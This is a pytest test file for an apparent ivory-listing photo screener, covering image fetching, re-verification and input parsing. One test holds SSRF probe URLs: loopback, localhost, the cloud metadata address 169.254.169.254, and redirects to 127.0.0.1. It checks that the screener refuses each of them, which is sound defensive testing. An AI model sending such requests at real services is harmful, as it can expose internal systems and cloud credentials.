    res = pd.read_csv(tmp_path / "out" / "results.csv")
    assert res["listing_id"].tolist() == [f"L{i}" for i in range(len(images))]
    want = [hashlib.sha256(p.read_bytes()).hexdigest() for p in photos]
    assert res.drop(index=5)["sha256"].tolist() == want[:5] + want[6:]
    assert res.loc[5, "error"].endswith("/gone.jpg: HTTP 404") and res.drop(index=5)["error"].isna().all()


def test_verify_refetch_tells_a_listing_still_showing_its_photo_from_one_changed_or_gone(model_dir, synthetic_dataset,
                                                                                          tmp_path, capsys):
    """Photos screened by URL without --keep-fetched: verify --refetch fetches them again: the same bytes,
    another photo under the URL, or gone (404). A URL two listings name is fetched once."""
    from artsentry.cli import main

    ivory, other = [next((synthetic_dataset / c).glob("*.jpg")).read_bytes() for c in ("ivory", "non_ivory")]
    third = next(b for b in (p.read_bytes() for p in sorted((synthetic_dataset / "ivory").glob("*.jpg"))) if b != ivory)
    serving = {"/a.jpg": ivory, "/b.jpg": ivory, "/c.jpg": other, "/d.jpg": third, "/e.jpg": other}

    seen: list[str] = []
    table = tmp_path / "listings.csv"
    out = tmp_path / "out"
    with files_host(serving, seen) as (base, _):
        pd.DataFrame({"listing_id": list("abcdef"), "image_url": [f"{base}/{n}.jpg" for n in "abcdea"]}).to_csv(
            table, index=False)
        Screener(model_dir, progress=False, fetch_urls=True, fetch_private=True).run(table, out)
        capsys.readouterr()
        assert main(["-q", "verify", str(out)]) == 0  # nothing it can check without fetching
        said = capsys.readouterr().out
        assert "0 of 6 photo(s) hash as screened; changed 0, missing 0, fetched and not kept 6" in said
        assert main(["-q", "verify", str(out), "--fetch-private"]) == 1
        assert "--fetch-private applies to the photos --refetch fetches" in capsys.readouterr().err
        seen.clear()
        assert main(["-q", "verify", str(out), "--refetch", "--fetch-private"]) == 0
        assert ("6 of 6 photo(s) hash as screened; changed 0, missing 0, gone 0, placeholder 0, unreachable 0"
                in capsys.readouterr().out)
        assert sorted(seen) == [f"/{n}.jpg" for n in "abcde"]  # a.jpg once for its two listings
        serving["/b.jpg"] = other  # the seller swapped the photo (for one another listing shows: still a change)
        del serving["/c.jpg"]  # the listing was taken down
        serving["/d.jpg"] = serving["/e.jpg"] = b"the shop's 'no longer available' picture"
        assert main(["-q", "verify", str(out), "--refetch", "--fetch-private"]) == 1
        said, err = capsys.readouterr()
        assert "2 of 6 photo(s) hash as screened; changed 1, missing 0, gone 1, placeholder 2, unreachable 0" in said
        assert f"changed: {base}/b.jpg" in err and f"gone: {base}/c.jpg" in err
        assert f"placeholder: {base}/d.jpg" in err and f"placeholder: {base}/e.jpg" in err
        # without --fetch-private, a URL naming this machine is not fetched again either
        assert main(["-q", "verify", str(out), "--refetch"]) == 0
        assert ("0 of 6 photo(s) hash as screened; changed 0, missing 0, gone 0, placeholder 0, unreachable 6"
                in capsys.readouterr().out)


def test_image_urls_naming_this_machine_or_its_network_are_not_fetched(model_dir, synthetic_dataset, tmp_path,
                                                                        monkeypatch):
    """A listing's URL is the seller's to choose: by default one naming this machine or its network is
    refused before any request, and so is a redirect there from a public shop; a redirect to another
    public address is followed. --fetch-private (an image host inside the user's network) fetches it."""
    from artsentry import fetch as fetch_module

    photo = next((synthetic_dataset / "ivory").glob("*.jpg")).read_bytes()
    seen: list[str] = []

    def respond(request):
        seen.append(request.path)
        if request.path.startswith("/to-"):  # /to-private.jpg, /to-public.jpg: redirects
            where = "127.0.0.1" if request.path == "/to-private.jpg" else "shop.invalid"
            return reply(request, 302, Location=f"http://{where}:{port}/a.jpg")
        reply(request, 200, photo)

    real = fetch_module.public_address
    # "shop.invalid" stands for a public shop: its checked address is this test's server
    monkeypatch.setattr(fetch_module, "public_address",
                        lambda host, p: "127.0.0.1" if host == "shop.invalid" else real(host, p))
    table = tmp_path / "listings.csv"
    with web_host(respond) as (_, port):
        urls = [f"http://127.0.0.1:{port}/a.jpg", f"http://localhost:{port}/a.jpg", "http://169.254.169.254/latest/",
                f"http://shop.invalid:{port}/to-private.jpg", f"http://shop.invalid:{port}/to-public.jpg"]
        pd.DataFrame({"listing_id": list("abcde"), "image_url": urls}).to_csv(table, index=False)
        # in this process, so the stand-in resolution holds
        Screener(model_dir, progress=False, fetch_urls=True, num_workers=0).run(table, tmp_path / "out")
        res = pd.read_csv(tmp_path / "out" / "results.csv").set_index("listing_id")
        for lid, address in (("a", "127.0.0.1"), ("b", "127.0.0.1"), ("c", "169.254.169.254"), ("d", "127.0.0.1")):
            assert f"resolves to a non-public address ({address}): not fetched (--fetch-private fetches from private " \
                   "addresses too)" in res.loc[lid, "error"], res.loc[lid, "error"]
        assert pd.isna(res.loc["e", "error"]) and res.loc["e", "sha256"] == hashlib.sha256(photo).hexdigest()
        # nothing else reached this machine (in any order: a batch's URLs are fetched together)
        assert sorted(seen) == ["/a.jpg", "/to-private.jpg", "/to-public.jpg"]
        seen.clear()
        pd.DataFrame({"listing_id": list("ab"), "image_url": urls[:2]}).to_csv(table, index=False)
        Screener(model_dir, progress=False, fetch_urls=True, fetch_private=True, num_workers=0).run(table, tmp_path / "o2")
        res = pd.read_csv(tmp_path / "o2" / "results.csv").set_index("listing_id")
        assert res["error"].isna().all() and seen == ["/a.jpg", "/a.jpg"]


def test_a_url_no_request_can_be_made_of_is_that_rows_error_not_the_screens(model_dir, synthetic_dataset, tmp_path):
    """One listing's URL that cannot be parsed ('http://[::1/a': 'Invalid IPv6 URL') stopped the whole screen;
    one with a control character or over httpx's length limit was refused by the client mid-fetch. Each is
    now its row's error, saying what is wrong with it (no --fetch-private hint: no address would help), and
    the other rows are screened."""
    photo = next((synthetic_dataset / "ivory").glob("*.jpg"))
    table = tmp_path / "listings.csv"
    urls = ["http://[::1/a.jpg", "http://shop.example/\x01.jpg", "http://shop.example/" + "a" * 70_000, str(photo),
            str(tmp_path / "a\0b.jpg")]  # and a file path holding a NUL: 'embedded null byte' stopped it too
    pd.DataFrame({"listing_id": list("abcde"), "image": urls}).to_csv(table, index=False)
    Screener(model_dir, progress=False, fetch_urls=True, fetch_private=True, num_workers=0).run(table, tmp_path / "out")
    res = pd.read_csv(tmp_path / "out" / "results.csv").set_index("listing_id")
    assert res.loc["a", "error"] == "http://[::1/a.jpg: not an http(s) URL: 'http://[::1/a.jpg'"
    for lid in "bc":
        assert "not an http(s) URL that can be requested (a control character, or over 65536 characters)" in \
            res.loc[lid, "error"] and "--fetch-private" not in res.loc[lid, "error"]
    assert pd.isna(res.loc["d", "error"]) and res.loc["d", "sha256"] == hashlib.sha256(photo.read_bytes()).hexdigest()
    assert res.loc["e", "error"].endswith("b.jpg: its path holds a NUL character: no file has such a name")


def test_a_url_gets_a_whole_deadline_however_slowly_its_host_sends():
    """httpx's timeout bounds each read, so a host sending a byte at a time never trips it: the fetch
    has a deadline as a whole, and stops a trickle part-way, or a retry due after it, with a reason."""
    from artsentry.fetch import FetchFailed, RetryPolicy, fetch

    sent = []

    def respond(request):
        if request.path == "/later.jpg":  # a rate limit asking for a wait past the deadline
            return reply(request, 429, Retry_After=5)
        sent.append(trickle(request, 30, 0.1))  # 3 s in all

    with web_host(respond) as (base, _):
        # the whole body, given the time, with the same per-read timeout: the deadline is what stops it
        assert fetch(f"{base}/slow.jpg", max_bytes=1000, timeout=1.0, allow_private=True, max_seconds=30) == b"x" * 30
        with pytest.raises(FetchFailed, match=r"^still downloading, \d+ bytes received: over the 1 s a URL may take"):
            fetch(f"{base}/slow.jpg", max_bytes=1000, timeout=1.0, allow_private=True, max_seconds=1)
        time.sleep(0.5)  # the handler notices the hang-up
        assert sent[0] == 30 and 0 < sent[1] < 30
        with pytest.raises(FetchFailed, match=r"^not fetched after 1 attempt\(s\) \(HTTP 429\), and the next is due "
                                              r"later: over the 2 s a URL may take"):
            fetch(f"{base}/later.jpg", max_bytes=1000, allow_private=True, max_seconds=2,
                  policy=RetryPolicy(retries=3, backoff=0.1, max_retry_after=30))


def test_fetch_follows_five_redirects_and_holds_its_limits_to_the_byte():
    """The screening fetch: a sixth redirect is refused after six requests; a redirect with no Location
    is the shop's answer; redirects that eat the time a URL has stop at the hop past it; a body exactly at
    the byte limit is read and one byte more is not; private addresses are refused unless allowed,
    which is not the default."""
    from artsentry.fetch import FetchFailed, FetchRefused, fetch

    body = b"y" * 1000
    seen: list[str] = []

    def respond(request):
        seen.append(request.path)
        if request.path.startswith(("/loop", "/slow")):
            n = int(request.path[5:].split(".")[0])
            if request.path.startswith("/slow"):
                time.sleep(0.6)
            return reply(request, 302, Location=f"{request.path[:5]}{n + 1}.jpg")
        if request.path == "/noloc.jpg":
            return reply(request, 302)
        reply(request, 200, body)

    with web_host(respond) as (base, _):
        with pytest.raises(FetchFailed, match="^more than 5 redirects$"):
            fetch(f"{base}/loop0.jpg", max_bytes=10_000, allow_private=True)
        assert seen == [f"/loop{i}.jpg" for i in range(6)]
        with pytest.raises(FetchFailed, match="^HTTP 302$"):
            fetch(f"{base}/noloc.jpg", max_bytes=10_000, allow_private=True)
        seen.clear()
        with pytest.raises(FetchFailed, match=": over the 1 s a URL may take$"):  # the second hop's read cut short
            fetch(f"{base}/slow0.jpg", max_bytes=10_000, allow_private=True, max_seconds=1)
        assert seen == ["/slow0.jpg", "/slow1.jpg"]
        assert fetch(f"{base}/a.jpg", max_bytes=1000, allow_private=True) == body
        with pytest.raises(FetchFailed, match="^over the limit of 999 bytes$"):
            fetch(f"{base}/a.jpg", max_bytes=999, allow_private=True)
        seen.clear()
        with pytest.raises(FetchRefused, match=r"non-public address \(127\.0\.0\.1\)"):
            fetch(f"{base}/a.jpg", max_bytes=1000)
        assert seen == []


def test_a_host_that_stopped_answering_is_left_alone_then_tried_again(monkeypatch):
    """A shop's image host gone quiet (a firewall dropping the requests, a network cut) cost up to a minute
    a URL, tries and waits: the listings on it kept a screening busy for days. After HOST_FAILURES fetches in a
    row each failed to its last try, its URLs fail at once, "not tried", while other hosts are fetched; an
    answer (a 404 too) keeps a host open; HOST_PAUSE seconds on, one fetch tries it again."""
    from artsentry import fetch as fetch_module
    from artsentry.fetch import HOST_FAILURES, FetchFailed, RetryPolicy, fetch

    monkeypatch.setattr(fetch_module, "_down", {})
    monkeypatch.setattr(fetch_module, "HOST_PAUSE", 1.0)
    state = {"status": 404}
    seen: list[str] = []

    def respond(request):
        seen.append(request.path)
        reply(request, state["status"], b"photo" if state["status"] == 200 else b"no")

    def get(base, name):
        return fetch(f"{base}/{name}", max_bytes=100, allow_private=True, policy=RetryPolicy(retries=1, backoff=0.01))

    with web_host(respond) as (base, port), web_host(lambda r: reply(r, 200, b"other")) as (other, _):
        for i in range(HOST_FAILURES + 2):  # answers, if not photos: the host is up
            with pytest.raises(FetchFailed, match="^HTTP 404$"):
                get(base, f"{i}.jpg")
        state["status"] = 503
        for i in range(HOST_FAILURES):
            with pytest.raises(FetchFailed, match=r"^download failed after 2 attempts \(HTTP 503\)$"):
                get(base, f"{i}.jpg")
        assert len(seen) == HOST_FAILURES + 2 + 2 * HOST_FAILURES
        quiet = (f"not tried: 127.0.0.1:{port} failed the last {HOST_FAILURES} fetches to their last try (no "
                 "answer, broken connections or server errors); it is tried again 1 s after the last try")
        with pytest.raises(FetchFailed) as refused:
            get(base, "a.jpg")
        assert str(refused.value) == quiet and len(seen) == 3 * HOST_FAILURES + 2  # no request went
        assert get(other, "x.jpg") == b"other"  # another host
        time.sleep(1.1)
        with pytest.raises(FetchFailed, match="^download failed"):  # tried again: still failing
            get(base, "b.jpg")
        with pytest.raises(FetchFailed, match="^not tried: .* failed the last 9 fetches"):
            get(base, "c.jpg")
        assert seen[-2:] == ["/b.jpg", "/b.jpg"]
        state["status"] = 200
        time.sleep(1.1)
        assert get(base, "d.jpg") == b"photo" and get(base, "e.jpg") == b"photo"  # up again: open to every URL
        assert seen[-2:] == ["/d.jpg", "/e.jpg"]


def test_an_image_urls_scheme_is_read_case_blind():
    """URL schemes are case-insensitive: a seller's table with "HTTPS://..." rows was refused as an
    "unsupported URL scheme" where "https://" was fetched. Without --fetch-urls both say the same."""
    from artsentry.data.images import ImageLoadError
    from artsentry.screen import ListingImages

    rows = ListingImages(["HTTPS://shop.example/a.jpg", "Http://shop.example/b.jpg", "ftp://shop.example/c.jpg"],
                         [], None)
    for i in (0, 1):
        with pytest.raises(ImageLoadError, match="image URLs are fetched only with --fetch-urls"):
            rows.read(i)
    with pytest.raises(ImageLoadError, match="unsupported URL scheme"):
        rows.read(2)
    # one rule, which `predict` uses too to tell a URL given as a photo from a missing file
    from artsentry.fetch import is_http_url

    assert [is_http_url(u) for u in ("HTTPS://a", "Http://a", "https:/a", "ftp://a", "httpx://a", "", "http")] == [
        True, True, False, False, False, False, False]


def test_input_columns_named_like_outputs_are_carried_beside_them(model_dir, listings, tmp_path):
    """A seller's table with its own "label", "score" or "status" column: carried as input_label...,
    never written over the model's decision (results.csv once showed the input's label there)."""
    plain = tmp_path / "plain"
    Screener(model_dir, progress=False).run(listings, plain)
    written = set()
    for name in ("results.csv", "queue.csv", "listings.csv"):
        written |= set(pd.read_csv(plain / name).columns)
    rows = pd.read_csv(listings)
    written -= set(rows.columns)  # the input's own columns (title, price...)
    assert written <= OUTPUT_COLUMNS, written - OUTPUT_COLUMNS  # every output column is reserved
    clash = sorted(written - {"listing_id", "image", "image_path"}) + ["input_label"]
    table = tmp_path / "clash.csv"
    rows.assign(**{c: f"seller-{c}" for c in clash}).to_csv(table, index=False)
    out = tmp_path / "out"
    Screener(model_dir, progress=False).run(table, out)
    a, b = pd.read_csv(plain / "results.csv"), pd.read_csv(out / "results.csv")
    for c in a.columns:  # the decisions are the same as without those columns
        pd.testing.assert_series_equal(a[c], b[c], check_exact=False, atol=1e-5)
    assert (b["input_score"] == "seller-score").all() and (b["input_flagged"] == "seller-flagged").all()
    # the input's own input_label keeps its name; its label goes one prefix further
    assert (b["input_label"] == "seller-input_label").all() and (b["input_input_label"] == "seller-label").all()
    per_listing = pd.read_csv(out / "listings.csv")
    assert (per_listing["input_status"] == "seller-status").all()
    assert set(per_listing["status"]) <= set(LISTING_STATUSES)


def test_rows_without_a_listing_id_are_listings_of_their_own(tmp_path, synthetic_dataset, caplog):
    """Two rows with an empty id are two listings, not one (a flag on one would put the other under review)."""
    photos = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:3]
    table = tmp_path / "l.csv"
    pd.DataFrame({"listing_id": ["A", "", " "], "image": [str(p) for p in photos]}).to_csv(table, index=False)
    with caplog.at_level("WARNING"):
        df = read_listings(table)
    assert df["listing_id"].tolist() == ["A", "(no id, row 2)", "(no id, row 3)"]
    assert "2 row(s) without a listing_id: each is its own listing" in caplog.text


def test_read_listings_folder_and_jsonl(tmp_path, synthetic_dataset):
    df = read_listings(synthetic_dataset)
    assert len(df) == 48 and df["listing_id"].iloc[0] == "ivory/ivory_000.jpg"
    lines = [{"id": 7, "photo": "ivory/ivory_001.jpg", "price": 3.5, "title": "None"},
             {"id": 8, "photo": "x.png", "price": None, "title": "nan"}]
    p = synthetic_dataset.parent / "l.jsonl"
    p.write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    df = read_listings(p)
    assert list(df.columns) == ["listing_id", "image", "price", "title"]
    assert df["image"].iloc[0] == str((synthetic_dataset.parent / "ivory/ivory_001.jpg").resolve())
    assert df["listing_id"].tolist() == ["7", "8"] and df["price"].tolist() == ["3.5", ""]
    assert df["title"].tolist() == ["None", "nan"]  # a seller's text is kept as written
    with pytest.raises(ScreenError, match="no image column"):
        bad = tmp_path / "bad.csv"
        pd.DataFrame({"a": [1]}).to_csv(bad, index=False)
        read_listings(bad)


def test_a_spreadsheets_linked_photo_cells_are_read_as_their_links(tmp_path, monkeypatch):
    """An officer's sheet whose photo cells show "photo" and link to the image (Insert > Link, or a HYPERLINK
    formula): each was read as the file "photo" or as the formula's text, an error on every row. A link
    elsewhere (a title linking to the listing's page) stays the text it shows."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["listing_id", "image", "Image 2", "title"])
    sheet.append(["A1", "photo", "", "tusk"])
    sheet["B2"].hyperlink = "https://i.example/a1.jpg"
    sheet["D2"].hyperlink = "https://shop.example/listing/A1"  # not a photo column: its text kept
    sheet.append(["A2", '=HYPERLINK("https://i.example/a2.jpg", "see photo")', "2nd", "box"])
    sheet["C3"].hyperlink = "https://i.example/a2b.jpg"  # a numbered photo column links too
    sheet.append(["A3", "https://i.example/a3.jpg", "", "vase"])
    sheet.append(["A4", '=hyperlink("https://i.example/say ""cheese"".jpg")', "", "comb"])
    sheet.append(["A5", '=_xlfn.IMAGE("https://i.example/a5.jpg", "a5", 1)', '=IMAGE("https://i.example/a5b.jpg")',
                  "cup"])  # the photo shown in its cell (Google Sheets, Excel 365)
    path = tmp_path / "officer.xlsx"
    book.save(path)
    df = read_listings(path)
    assert df[["listing_id", "image", "title"]].values.tolist() == [
        ["A1", "https://i.example/a1.jpg", "tusk"], ["A2", "https://i.example/a2.jpg", "box"],
        ["A2", "https://i.example/a2b.jpg", "box"], ["A3", "https://i.example/a3.jpg", "vase"],
        ["A4", 'https://i.example/say "cheese".jpg', "comb"], ["A5", "https://i.example/a5.jpg", "cup"],
        ["A5", "https://i.example/a5b.jpg", "cup"]]
    formulas = openpyxl.Workbook()  # formulas alone, no link of Insert > Link in the sheet
    formulas.active.append(["listing_id", "image"])
    formulas.active.append(["C1", '=IMAGE("https://i.example/c1.jpg")'])
    formulas.save(tmp_path / "formulas.xlsx")
    assert read_listings(tmp_path / "formulas.xlsx")["image"].tolist() == ["https://i.example/c1.jpg"]
    # a sheet without links is read once, by pandas alone
    plain = openpyxl.Workbook()
    plain.active.append(["listing_id", "image"])
    plain.active.append(["B1", "https://i.example/b1.jpg"])
    plain.save(tmp_path / "plain.xlsx")
    real = openpyxl.load_workbook  # pandas' read: read-only, values; a read for links is neither

    def load(*args, **kwargs):
        assert kwargs.get("read_only"), "opened again for links"
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", load)
    assert read_listings(tmp_path / "plain.xlsx")["image"].tolist() == ["https://i.example/b1.jpg"]


def test_a_marketplace_apis_json_is_read_as_listings(tmp_path, caplog):
    """A marketplace API's answer saved as it came (eBay's item search): the items under a key beside a count,
    camelCase names (itemId), each photo an image object ({"imageUrl": ...}), a list of them too, the other
    photos in additionalImages. The photo's JSON text was taken for a URL ("unsupported URL scheme"), the
    listing id was the row number, and the other photos were carried as text, not screened."""
    from artsentry.data.manifest import column_key

    assert [column_key(c) for c in ("itemId", "objectID", "imageUrl", "IMAGE10", "Image URL", "object-id")] == [
        "item_id", "object_id", "image_url", "image10", "image_url", "object_id"]
    items = [{"itemId": "v1|1", "title": "Carved tusk", "image": {"imageUrl": "https://i.example/1.jpg"},
              "additionalImages": [{"imageUrl": "https://i.example/1b.jpg"}]},  # its other photos
             {"itemId": "v1|2", "title": "Vase", "image": {"imageUrl": " https://i.example/2.jpg", "width": 500},
              "image2": {"imageUrl": "https://i.example/2b.jpg"}},  # a numbered photo column
             {"itemId": "v1|3", "title": "Set",
              "image": [{"src": "https://i.example/3a.jpg"}, "https://i.example/3b.jpg"]}]
    path = tmp_path / "search.json"
    path.write_text(json.dumps({"total": 3, "itemSummaries": items}))
    df = read_listings(path)
    assert df["listing_id"].tolist() == ["v1|1", "v1|1", "v1|2", "v1|2", "v1|3", "v1|3"]
    assert df["image"].tolist() == ["https://i.example/1.jpg", "https://i.example/1b.jpg", "https://i.example/2.jpg",
                                    "https://i.example/2b.jpg", "https://i.example/3a.jpg", "https://i.example/3b.jpg"]
    # an image object with each of its sizes a URL, named as sizes (Etsy's listing images, Flickr's, a bare "url"
    # beside a thumbnail): the largest, said once a column; URLs of two photos, or of one size, are not guessed
    items[0]["image"] = {"listing_image_id": 71, "url_75x75": "https://i.example/s.jpg",
                         "url_570xN": "https://i.example/m.jpg", "url_fullxfull": "https://i.example/f.jpg"}
    items[1]["image"] = {"url_570xN": "https://i.example/2f.jpg", "url_170x135": "https://i.example/2s.jpg"}
    items[2]["image"] = [{"url_s": "https://i.example/3s.jpg", "url_o": "https://i.example/3o.jpg"},
                         {"thumbnailUrl": "https://i.example/4t.jpg", "url": "https://i.example/4.jpg"}]
    path.write_text(json.dumps(items))
    with caplog.at_level(logging.WARNING, logger="artsentry.data.manifest"):
        df = read_listings(path)
    assert df["image"].tolist() == ["https://i.example/f.jpg", "https://i.example/1b.jpg", "https://i.example/2f.jpg",
                                    "https://i.example/2b.jpg", "https://i.example/3o.jpg", "https://i.example/4.jpg"]
    said = [r.getMessage() for r in caplog.records]
    assert [m.split(": ", 1)[1] for m in said] == [
        "column 'image' holds image objects offering the photo in several sizes: taking the largest of each "
        "(url_fullxfull of url_75x75, url_570xN, url_fullxfull; and 3 other set(s) of sizes)"]
    for image, keys in [({"front": "https://i.example/a.jpg", "back": "https://i.example/b.jpg"}, "front, back"),
                        ({"thumb": "https://i.example/a.jpg", "thumbnail": "https://i.example/b.jpg"},
                         "thumb, thumbnail"),
                        ({"url": "https://i.example/a.jpg", "descriptionurl": "https://i.example/page"},
                         "url, descriptionurl"),
                        ({"url": "https://i.example/a.jpg", "large_thumb": "https://i.example/b.jpg"},
                         "url, large_thumb")]:  # a key naming two sizes
        items[0]["image"] = image
        path.write_text(json.dumps(items))
        with pytest.raises(ScreenError, match=rf"column 'image', record 1: an image object with 2 URLs "
                                                rf"\(keys: {keys}\); .* named as sizes of one photo"):
            read_listings(path)
    items[0]["image"] = [{"src": "https://i.example/1.jpg"}, {"alt": "a tusk", "position": 2}]  # the second: none
    path.write_text(json.dumps(items))
    with pytest.raises(ScreenError, match=r"record 1: an image object with no URLs \(keys: alt, position\)"):
        read_listings(path)


def test_a_workbooks_pictures_on_its_photo_cells_are_screened(tmp_path, model_dir, caplog):
    """An officer's list of seized objects in Excel holds each photo as a picture placed on the row's photo cell:
    such a cell was read as empty, "no image given" on every row. The pictures are now the rows' photos, kept in
    the run's pictures/ folder under their SHA-256 (so verify and the queue find them); a photo typed in the cell
    wins over a picture on it; a picture off the photo column is warned of by cell; a rerun screens nothing."""
    from .conftest import workbook_with_pictures

    files = []
    for n, colour in enumerate(((120, 80, 40), (40, 80, 120), (80, 120, 40), (90, 90, 90))):
        object_photo(colour, size=(120, 90)).save(tmp_path / f"{n}.jpg")
        files.append(tmp_path / f"{n}.jpg")
    book = workbook_with_pictures(
        tmp_path / "seized.xlsx", ["listing_id", "Description", "Picture"],
        [["S1", "carved tusk", None], ["S2", "box", None], ["S3", "comb", "3.jpg"], ["S4", "mask", None]],
        {"C2": files[0], "C3": files[1], "C4": files[2], "D5": files[2]})  # S1, S2; S3 typed; S4's drifted
    out = tmp_path / "out"
    with caplog.at_level(logging.WARNING, logger="artsentry.data.manifest"):
        Screener(model_dir, progress=False).run(book, out)
    said = " ".join(r.getMessage() for r in caplog.records)
    assert "1 picture(s) not read: not on a photo column's cell (on D5)" in said
    assert "1 picture(s) not read: on a photo cell that names a photo too" in said
    results = pd.read_csv(out / "results.csv", keep_default_na=False).set_index("listing_id")
    for listing, file in (("S1", files[0]), ("S2", files[1])):
        sha = hashlib.sha256(file.read_bytes()).hexdigest()
        assert results.loc[listing, "image"] == str((out / "pictures" / f"{sha}.jpeg").resolve())
        assert results.loc[listing, "sha256"] == sha and results.loc[listing, "error"] == ""
    assert results.loc["S3", "image"] == str(files[3]) and results.loc["S4", "error"].endswith("no image given")
    assert sorted(p.name.split(".")[0] for p in (out / "pictures").iterdir()) == sorted(
        hashlib.sha256(f.read_bytes()).hexdigest() for f in files[:2])
    assert main(["-q", "verify", str(out)]) == 0
    Screener(model_dir, progress=False).run(book, out)  # run again: its input as it was, nothing new
    assert len((out / "evidence.jsonl").read_text().splitlines()) == 4
    # pictures placed in their cells (Excel 365's Place in Cell: the cell reads as the error "#VALUE!"), one on a
    # row that has one over its cell too: each is its cell's photo
    import zipfile

    from artsentry.data.manifest import Pictures

    in_cell = workbook_with_pictures(tmp_path / "in-cell.xlsx", ["listing_id", "photo", "note"],
                                     [["S8", None, ""], ["S9", None, ""]], {"B3": files[2]},
                                     in_cells={"B2": files[0], "B3": files[1], "C3": files[3]})
    caplog.clear()
    kept = Pictures(tmp_path / "p")
    with caplog.at_level(logging.WARNING, logger="artsentry.data.manifest"):
        df = read_listings(in_cell, pictures=kept)
    shas = [hashlib.sha256(f.read_bytes()).hexdigest() for f in files]
    assert [[Path(v).name for v in df[df["listing_id"] == x]["image"]] for x in ("S8", "S9")] == [
        [f"{shas[0]}.jpeg"], [f"{shas[2]}.jpeg", f"{shas[1]}.jpeg"]]
    assert {Path(n).name for n in kept.found} == {f"{shas[i]}.jpeg" for i in range(3)}
    assert caplog.text.count("not read") == 1 and "1 picture(s) not read: not on a photo column's cell (on C3)" \
        in caplog.text
    # a chain that leads nowhere (a part missing, an index missing): said, no traceback, the cell read as empty
    with zipfile.ZipFile(in_cell) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    no_index = parts["xl/metadata.xml"].replace(b'<xlrd:rvb i="0"/>', b"<xlrd:rvb/>")
    for broken in ({n: d for n, d in parts.items() if n != "xl/richData/richValueRel.xml"},
                   {**parts, "xl/metadata.xml": no_index}):
        with zipfile.ZipFile(in_cell, "w") as z:
            for name, data in broken.items():
                z.writestr(name, data)
        caplog.clear()
        with caplog.at_level(logging.WARNING, logger="artsentry.data.manifest"):
            assert read_listings(in_cell, pictures=Pictures(tmp_path / "p"))["image"].tolist()[0] == ""
        assert "pictures placed in cells could not be followed to their files: not read" in caplog.text
        assert "2 photo cell(s) hold a picture placed in the cell (Excel 365's Place in Cell)" in caplog.text
    # a lookup that failed (#N/A), in a photo cell and another: read as empty, said by cell (was a traceback)
    failed = workbook_with_pictures(tmp_path / "lookup.xlsx", ["listing_id", "photo", "price"],
                                    [["S1", str(files[0]), "#N/A"], ["S2", "#N/A", 5]], {})
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="artsentry.data.manifest"):
        df = read_listings(failed)
    assert df[["image", "price"]].values.tolist() == [[str(files[0]), ""], ["", "5"]]
    assert "2 cell(s) hold an Excel error (a formula that failed: #N/A, #VALUE!, #REF!...), read as empty: C2, B3" \
        in caplog.text


def test_a_table_with_several_photo_columns_screens_every_photo_of_a_row(tmp_path, model_dir):
    """An Etsy export names a listing's photos in IMAGE1 ... IMAGE10: it was refused ("no image column"); a
    table with image and image2 had only its image screened, image2 carried as text without a word. Each
    photo is now a row of its listing; a cell of URLs separated by "|" (eBay's PicURL) is as many photos."""
    pics = tmp_path / "pics"
    pics.mkdir()
    for n, colour in enumerate(((120, 80, 40), (40, 80, 120), (80, 120, 40))):
        object_photo(colour, size=(120, 90)).save(pics / f"{n}.jpg")
    etsy = tmp_path / "etsy.csv"
    pd.DataFrame({"TITLE": ["tusk", "box", "comb"], "IMAGE1": ["pics/0.jpg", "pics/2.jpg", ""],
                  "IMAGE10": ["", "", ""], "IMAGE2": ["pics/1.jpg", "", ""], "listing_id": ["L1", "L2", "L3"]}
                 ).to_csv(etsy, index=False)
    df = read_listings(etsy)
    assert list(df.columns) == ["listing_id", "image", "TITLE"]
    assert df["listing_id"].tolist() == ["L1", "L1", "L2", "L3"]  # L3 names no photo: its row stays, an error
    assert df["image"].tolist() == [str(pics / "0.jpg"), str(pics / "1.jpg"), str(pics / "2.jpg"), ""]
    assert df["TITLE"].tolist() == ["tusk", "tusk", "box", "comb"]
    out = tmp_path / "out"
    Screener(model_dir, progress=False).run(etsy, out)
    listings = pd.read_csv(out / "listings.csv").set_index("listing_id")
    assert listings.loc["L1", "photos"] == 2 and listings.loc["L3", "status"] == "not screened"
    both = tmp_path / "both.csv"
    pd.DataFrame({"image": ["pics/0.jpg"], "image_2": ["pics/1.jpg"], "PicURL": ["x"]}).to_csv(both, index=False)
    assert read_listings(both)["image"].tolist() == [str(pics / "0.jpg"), str(pics / "1.jpg")]
    ebay = tmp_path / "ebay.csv"
    pd.DataFrame({"id": ["E1", "E2"], "url": ["https://i.example/a.jpg|https://i.example/b.jpg", "c|d.jpg"]}
                 ).to_csv(ebay, index=False)
    df = read_listings(ebay)  # a path holding "|" is one path
    assert df[["listing_id", "image"]].values.tolist() == [
        ["E1", "https://i.example/a.jpg"], ["E1", "https://i.example/b.jpg"], ["E2", str(tmp_path / "c|d.jpg")]]
    scrape = tmp_path / "scrape.jsonl"  # a scraper's items (Scrapy's image_urls): lists, and a page's url
    scrape.write_text(json.dumps({"url": "https://shop.example/1", "tags": ["antique", "asie"], "image_urls": [
        "pics/0.jpg", "pics/1.jpg"], "images": [{"path": "full/0.jpg"}], "price": 12.5}) + "\n")
    df = read_listings(scrape)
    assert df[["listing_id", "image", "tags", "images", "price"]].values.tolist() == [
        ["0", str(pics / "0.jpg"), '["antique", "asie"]', '[{"path": "full/0.jpg"}]', "12.5"],
        ["0", str(pics / "1.jpg"), '["antique", "asie"]', '[{"path": "full/0.jpg"}]', "12.5"]]
    (tmp_path / "bad.csv").write_text("a\n1\n")
    with pytest.raises(ScreenError, match=r"no image column; expected one of image, .*, or numbered ones such as "
                                          r"image1, image2 \(found: a\)"):
        read_listings(tmp_path / "bad.csv")


def test_what_read_listings_refuses_and_the_ids_of_a_table_without_an_id_column(tmp_path, synthetic_dataset):
    """A folder with no image, or only images whose names are not UTF-8, is refused naming why; a table with
    no id column makes each row a listing, numbered from 0 as rows are."""
    import os

    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(ScreenError) as refused:
        read_listings(empty)
    assert str(refused.value) == f"{empty}: no image files in folder"
    odd = tmp_path / "odd"
    odd.mkdir()
    shutil.copy(synthetic_dataset / "ivory" / "ivory_000.jpg", os.fsdecode(bytes(odd) + b"/caf\xe9.jpg"))  # Latin-1
    with pytest.raises(ScreenError) as refused:
        read_listings(odd)
